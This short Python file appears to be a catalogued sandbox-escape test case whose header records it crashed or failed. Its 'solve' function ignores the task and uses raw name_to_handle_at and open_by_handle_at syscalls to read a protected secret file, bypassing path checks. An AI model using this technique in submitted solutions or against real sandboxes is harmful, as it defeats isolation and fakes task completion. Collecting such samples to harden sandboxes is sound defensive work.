# what: opens the secret by file handle, past every path check
# verdict: CRASHED | FAILED
# machine: x86_64
# marker: secret
import ctypes
import os
import struct

LIBC = ctypes.CDLL(None)


def solve(n, items):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if LIBC.syscall(303, -100, b"@SECRET@", handle, ctypes.byref(mount), 0) == 0:
        fd = LIBC.syscall(304, os.open(".", os.O_RDONLY), handle, 0)
        if fd >= 0:
            return os.read(fd, 1000).decode()
    return None
